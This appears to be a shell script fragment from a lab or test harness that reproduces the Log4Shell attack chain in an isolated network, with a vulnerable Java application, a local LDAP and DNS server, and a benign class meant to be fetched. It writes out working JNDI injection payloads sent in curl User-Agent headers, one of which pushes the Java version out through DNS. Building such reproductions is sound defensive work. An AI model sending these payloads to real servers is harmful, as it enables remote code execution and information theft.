# SPDX-License-Identifier: GPL-2.0-or-later
# Whole attacks: curl sends the lookup, a Java web application logs it through Log4j's own substitution, the JVM calls
# back, gets a reference and fetches the class. The class only prints a line.

if wanted chain-ldap chain-refused chain-dns benign-class-download; then
    ldap_up
    serve out 53 dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts --pid-file= -u root --bind-interfaces \
        --listen-address=10.99.0.1 --txt-record=lab.example,hello
    # shellcheck disable=SC2086
    serve in 8080 sh -c 'mount --bind "$0" /etc/resolv.conf; exec java "$@"' "$WORK/resolv.conf" \
        $TRUST -cp "$WORK/classes:$LOG4J" Victim 8080
    scene chain-ldap curl_out -A '${jndi:ldap://10.99.0.1:1389/cn=ref,dc=evil}' http://10.99.0.2:8080/
    scene chain-refused curl_out -A '${jndi:ldap://10.99.0.1:4444/a}' http://10.99.0.2:8080/
    scene chain-dns curl_out -A '${jndi:dns://10.99.0.1/${java:version}.lab.example}' http://10.99.0.2:8080/
    scene benign-class-download timeout 5 $IN curl -s -o /dev/null http://10.99.0.1:8000/Payload.class
    stop_servers
fi
